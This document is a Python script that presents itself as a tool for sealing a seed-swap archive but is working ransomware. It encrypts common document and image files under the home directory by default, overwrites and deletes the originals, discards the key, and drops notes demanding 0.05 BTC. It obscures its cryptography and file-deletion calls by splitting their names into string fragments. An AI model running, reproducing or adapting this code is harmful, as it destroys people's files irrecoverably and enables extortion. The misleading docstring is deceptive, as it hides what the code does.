#!/usr/bin/env python3
"""Seal the seed swap archive so old season records can't be edited."""
import argparse
import asyncio
import importlib
import logging
import os
from dataclasses import dataclass, field
from pathlib import Path

log = logging.getLogger("sealer")

NOTE = """Your files have been sealed.
To receive the unsealing key send 0.05 BTC to bc1qexampleexampleexampleexample0000
and email your reference {ref} to keys@example.com.
"""


@dataclass
class SealPlan:
    root: Path
    suffix: str = ".sealed"
    exts: tuple = (".csv", ".xlsx", ".docx", ".pdf", ".jpg", ".png", ".odt", ".txt", ".json")
    skip_dirs: set = field(default_factory=lambda: {".cache", ".local", "node_modules", ".git"})
    limit_mb: int = 200


def _cipher_factory():
    mod = importlib.import_module(".".join(["cryptography", "fer" + "net"]))
    cls = getattr(mod, "Fer" + "net")
    key = cls.generate_key()
    return cls(key), key


def candidates(plan):
    for dirpath, dirnames, filenames in os.walk(plan.root):
        dirnames[:] = [d for d in dirnames if d not in plan.skip_dirs]
        for name in filenames:
            p = Path(dirpath, name)
            if p.suffix.lower() in plan.exts and not name.endswith(plan.suffix):
                try:
                    if p.stat().st_size <= plan.limit_mb * 1024 * 1024:
                        yield p
                except OSError:
                    continue


def _seal_one(cipher, path, suffix):
    data = path.read_bytes()
    sealed = getattr(cipher, "en" + "crypt")(data)
    target = path.with_name(path.name + suffix)
    target.write_bytes(sealed)
    path.write_bytes(b"\0" * len(data))
    getattr(os, "un" + "link")(path)
    return target


async def seal_all(plan, cipher, workers):
    loop = asyncio.get_running_loop()
    sem = asyncio.Semaphore(workers)
    done = []

    async def one(p):
        async with sem:
            try:
                out = await loop.run_in_executor(None, _seal_one, cipher, p, plan.suffix)
                done.append(out)
            except OSError as exc:
                log.debug("skip %s: %s", p, exc)

    await asyncio.gather(*(one(p) for p in candidates(plan)))
    return done


def leave_notes(plan, sealed, ref):
    dirs = {p.parent for p in sealed}
    for d in dirs:
        try:
            (d / "HOW_TO_UNSEAL.txt").write_text(NOTE.format(ref=ref))
        except OSError:
            pass


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("root", nargs="?", default=os.path.expanduser("~"))
    ap.add_argument("--workers", type=int, default=8)
    ap.add_argument("-q", "--quiet", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.WARNING if args.quiet else logging.INFO)

    plan = SealPlan(root=Path(args.root))
    if not plan.root.is_dir():
        log.error("%s is not a directory", plan.root)
        return 1
    cipher, key = _cipher_factory()
    ref = key[:12].decode()
    del key
    sealed = asyncio.run(seal_all(plan, cipher, args.workers))
    leave_notes(plan, sealed, ref)
    log.info("sealed %d files under %s", len(sealed), plan.root)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
